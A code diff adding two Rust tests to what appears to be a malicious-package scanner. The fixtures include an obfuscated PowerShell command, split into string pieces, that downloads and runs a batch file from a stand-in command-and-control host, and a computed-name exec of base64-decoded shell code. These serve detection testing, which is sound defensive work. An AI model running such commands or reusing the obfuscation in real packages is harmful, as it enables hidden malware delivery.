@@ -652,3 +652,32 @@ fn decoded_script_written_then_started_is_malicious() {
     );
     assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
 }
+
+#[test]
+fn command_joined_from_a_list_of_pieces_is_read_as_one_command_line() {
+    // The command line is split into meaningless pieces that only `''.join` puts together.
+    let module = "import subprocess\n\
+        parts = ['power', 'shell -NoP -W Hid', 'den -C \"Invoke-WebRequest ', \
+        'https://c2.example.invalid/l.bat -OutFile l.bat; Start-Process l.bat\"']\n\
+        cmd = ''.join(parts)\n\
+        subprocess.run(cmd, shell=True)\n";
+    let verdict = verdict(&[PKG_INFO, ("fixture/__init__.py", module)]);
+    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
+    assert!(
+        verdict.reasons.iter().any(|r| r.why.contains("powershell")),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn builtin_reached_by_a_computed_name_with_decoded_code_is_exec_decoded() {
+    // `getattr(builtins, name)(...)` where the name is computed: judged as exec.
+    let module = format!(
+        "import builtins, base64, sys\n\
+         name = ''.join(reversed(sys.argv[0][:4]))\n\
+         getattr(builtins, name)(base64.b64decode('{}').decode())\n",
+        b64("import os\nos.system('id')\n")
+    );
+    let verdict = verdict(&[PKG_INFO, ("fixture/__init__.py", &module)]);
+    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
+}
